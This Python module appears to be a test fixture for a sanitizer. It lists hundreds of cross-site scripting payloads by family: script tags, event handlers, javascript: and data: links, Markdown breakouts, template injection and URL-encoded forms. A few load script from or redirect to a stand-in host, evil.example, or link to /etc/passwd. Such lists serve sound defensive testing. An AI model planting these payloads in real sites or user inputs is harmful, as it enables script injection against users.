# ruff: noqa: E501
"""Scripts in every disguise that is known to have worked somewhere, by family."""

from urllib.parse import quote

TAGS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/src=//evil.example/x.js></script>", "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<script>alert`1`</script>",
    "\x00<script>alert(1)</script>", "<script>alert(1)", "＜script＞alert(1)＜/script＞", "<SCRIPT SRC=data:,alert(1)>",
]  # fmt: skip
HANDLERS = [
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", '<img src="x" onerror="alert(1)">', "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<a onmouseover=alert(1)>x</a>",
    "<div style=width:expression(alert(1))>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<form action=javascript:alert(1)><button>x</form>",
    "<button formaction=javascript:alert(1)>x", "<link rel=stylesheet href=javascript:alert(1)>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<style>@import 'javascript:alert(1)';</style>",
    "<x contenteditable onblur=alert(1)>x", "<img src=x:alert(alt) onerror=eval(src) alt=1>", "<select autofocus onfocus=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mi//xlink:href='javascript:alert(1)'>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]  # fmt: skip
LINKS = [
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](&#x6A;avascript:alert(1))",
    "[x](java&#10;script:alert(1))", "[x](java&Tab;script:alert(1))", "[x](\tjavascript:alert(1))", "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]", "[x]: <javascript:alert(1)>\n\n[x]", "[x](javascript&colon;alert(1))", "[x](javascript\\:alert(1))",
    "[x](%6Aavascript:alert(1))", "[x](\u0001javascript:alert(1))", "[x](&#1;javascript:alert(1))", "[x](&#x200b;javascript:alert(1))",
    "[x](view-source:javascript:alert(1))", "[x](feed:javascript:alert(1))", "[x](blob:https://evil.example/x)", "[x](file:///etc/passwd)",
    "[x](filesystem:https://evil.example/x)", "[x](jar:javascript:alert(1)!/)", "[x](//evil.example\\@good.example)",
]  # fmt: skip
BREAKOUTS = [
    '![" onerror="alert(1)](x)', '![x](x "\\" onerror=\\"alert(1)")', "[x](/x '\" onmouseover=alert(1) y=\"')", '[x](/x" onmouseover="alert(1))',
    '```" onload="alert(1)\nx\n```', "```<script>alert(1)</script>\nx\n```", "``` html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>", "`<script>alert(1)</script>`", "||<img src=x onerror=alert(1)>||", "~~<svg onload=alert(1)>~~",
    "|<img src=x onerror=alert(1)>|\n|-|\n|<svg onload=alert(1)>|", "[^1]\n\n[^1]: <img src=x onerror=alert(1)>", "[^<script>]\n\n[^<script>]: x",
    "- [ ] <img src=x onerror=alert(1)>", "- [x](javascript:alert(1))", "> <script>alert(1)</script>", "# <img src=x onerror=alert(1)>",
    "@alice<script>alert(1)</script>", "@<img src=x onerror=alert(1)>", ":<script>alert(1)</script>:", "https://x.example/<script>alert(1)</script>",
    'https://x.example/"onmouseover="alert(1)', "https://x.example/'onmouseover='alert(1)", "http://javascript:alert(1)@x.example",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>",
    "*<img src=x onerror=alert(1)>*", "[<img src=x onerror=alert(1)>](/x)", "![<img src=x onerror=alert(1)>](/x)", "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "{{constructor.constructor('alert(1)')()}}", "{% load static %}{{ request }}", "<a href='https://x' id=constructor name=document>x</a>",
]  # fmt: skip
QUOTED = [quote(payload) for payload in TAGS[:3]]
ALL = [*TAGS, *HANDLERS, *LINKS, *BREAKOUTS, *QUOTED]
